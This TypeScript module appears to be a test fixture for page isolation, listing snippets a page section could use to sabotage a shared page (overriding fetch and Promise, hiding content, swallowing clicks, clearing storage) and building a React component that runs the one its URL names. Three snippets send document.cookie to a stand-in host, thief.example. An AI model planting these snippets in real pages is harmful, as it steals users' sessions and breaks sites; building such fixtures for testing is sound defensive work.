/** Kinds of harm that code of a section can do to a page that is everybody's. */
export const HARMS = {
  // Globals, while the module is loaded.
  fetch: `window.fetch = () => Promise.reject(new Error('no fetch any more'));`,
  promise: `Promise.prototype.then = function () { return new Promise(() => {}); };`,
  json: `JSON.stringify = () => 'nothing you would like';`,
  array: `Array.prototype.map = function () { return []; };`,
  instance: `history.pushState = function () { throw new Error('nobody moves'); };`,
  // The document and the shell, while the page is drawn.
  header: `EFFECT document.querySelector('header').remove();`,
  overlay: `EFFECT const over = document.createElement('div'); over.id = 'over'; over.style.cssText = 'position:fixed;inset:0;z-index:99999;background:red'; document.body.append(over);`,
  filter: `EFFECT document.documentElement.style.filter = 'invert(1)';`,
  hidden: `EFFECT document.querySelector('main').setAttribute('hidden', '');`,
  styles: `EFFECT const all = document.createElement('style'); all.textContent = 'h1, header { visibility: hidden !important }'; document.head.append(all);`,
  // What all pages share.
  storage: `EFFECT localStorage.clear();`,
  address: `EFFECT history.pushState(null, '', '/nowhere');`,
  title: `EFFECT document.title = 'Mine';`,
  clicks: `EFFECT document.addEventListener('click', (event) => { event.stopImmediatePropagation(); event.preventDefault(); }, true);`,
  keys: `EFFECT window.addEventListener('keydown', (event) => event.stopImmediatePropagation(), true);`,
  interval: `EFFECT setInterval(() => { document.body.style.display = 'none'; }, 50);`,
  timer: `EFFECT setTimeout(() => { window.fetch = () => Promise.reject(new Error('no fetch any more')); }, 100);`,
  // What would leave.
  picture: `EFFECT new Image().src = 'https://thief.example/?' + encodeURIComponent(document.cookie);`,
  request: `EFFECT void fetch('https://thief.example/', { method: 'POST', body: document.cookie }).catch(() => {});`,
  beacon: `EFFECT navigator.sendBeacon('https://thief.example/', document.cookie);`,
} as const;
export type Harm = keyof typeof HARMS;

/** Harm that is undone without a report: pages may name the tab. */
export const UNNAMED: readonly Harm[] = ['title'];

/** A page that does the harm its address names, and is a good one without. */
export function hostile(label: string): string {
  const cases = (isEffect: boolean) =>
    Object.entries(HARMS)
      .filter(([, code]) => code.startsWith('EFFECT ') === isEffect)
      .map(([name, code]) => `${name}: () => { ${code.replace(/^EFFECT /, '')} },`)
      .join('\n');
  return `import { useEffect } from 'react';
const harm = new URLSearchParams(location.search).get('harm');
const LOADING = { ${cases(false)} };
const DRAWING = { ${cases(true)} };
LOADING[harm]?.();
export default function Module() {
  useEffect(() => { DRAWING[harm]?.(); }, []);
  return <section><h1>${label}</h1></section>;
}`;
}
